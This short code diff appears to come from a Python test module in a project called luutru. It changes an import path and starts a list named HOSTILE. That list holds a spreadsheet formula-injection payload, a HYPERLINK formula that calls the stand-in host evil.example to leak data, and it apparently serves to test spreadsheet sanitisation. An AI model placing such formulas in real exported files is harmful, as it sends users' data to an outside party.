@@ -16,7 +16,7 @@ from starlette.requests import Request
 
 from luutru_analytics.feeds import render
 from luutru_common import safe_sheets
-from luutru_ingest.uploads import sheets
+from luutru_ingest.core import sheets
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/leak","x")',
